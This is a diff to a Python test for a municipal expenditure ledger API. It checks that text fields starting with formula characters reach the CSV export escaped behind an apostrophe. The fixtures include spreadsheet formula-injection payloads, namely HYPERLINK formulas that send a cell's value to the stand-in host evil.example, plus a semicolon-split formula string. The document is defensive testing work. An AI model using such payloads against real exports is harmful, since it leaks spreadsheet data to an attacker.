@@ -41,6 +41,12 @@ SPLIT = 'Flyers;=HYPERLINK("https://evil.example/","klik")'
 """One cell in a ``,`` file, but a formula cell in a spreadsheet that splits it on ``;``."""
 
 
+def one_line(c: str) -> str:
+    """The character a one-line field (a name, an id, a reference) starts with instead of ``c``: TAB and CR
+    are refused there by the text rule (contracts/text.py), so they are tried in the prose fields only."""
+    return "@" if c in ("\t", "\r") else c
+
+
 def hostile(c: str, what: str) -> str:
     return f'{c}HYPERLINK("https://evil.example/?{what}="&B2,"{what}")'
 
@@ -112,8 +118,8 @@ def test_texts_a_municipality_posts_reach_no_csv_as_a_formula(stack: Stack) -> N
         text = SPLIT if c == ";" else hostile(c, "description")
         answer = s.post(s.ledger, f"/v1/municipalities/{A}/expenditures", {
             "grant_year": 2024, "category": "promotion", "amount_cents": 1_000 + n, "booked_on": "2024-03-01",
-            "counterparty": {"id": f"{c}id{n}", "name": hostile(c, "name") if c != ";" else SPLIT},
-            "description": text, "reference": f"{c}R{n}" if c != ";" else "R;=1+1",
+            "counterparty": {"id": f"{one_line(c)}id{n}", "name": hostile(one_line(c), "name") if c != ";" else SPLIT},
+            "description": text, "reference": f"{one_line(c)}R{n}" if c != ";" else "R;=1+1",
         }, "municipality", A)
         posted[answer["expenditure_id"]] = c
         if c != ";":  # reversed, with a reason that starts the formula too: a negative amount in the journal
@@ -136,9 +142,10 @@ def test_texts_a_municipality_posts_reach_no_csv_as_a_formula(stack: Stack) -> N
         n = DANGEROUS.index(c)
         what = "description" if row["event_type"] == "ExpenditureRecorded" else "reason"
         # each text behind an apostrophe, and nothing lost: dropping the apostrophes gives what was posted
-        assert all(text.startswith("'" + c) for text in texts), row
-        assert [unescape_cell(text) for text in texts] == [hostile(c, what), hostile(c, "name"), f"{c}id{n}",
-                                                           f"{c}R{n}"], row
+        assert texts[0].startswith("'" + c) and all(text.startswith("'" + one_line(c)) for text in texts[1:]), row
+        first = one_line(c)
+        assert [unescape_cell(text) for text in texts] == [hostile(c, what), hostile(first, "name"), f"{first}id{n}",
+                                                           f"{first}R{n}"], row
     reversals = [r for r in rows if r["event_type"] == "ExpenditureReversed"]
     assert sorted(int(r["amount_cents"]) for r in reversals) == [-(1_000 + n) for n in reversed(range(6))]
     # a negative amount is a plain number cell: unquoted in the file, after a quoted text cell
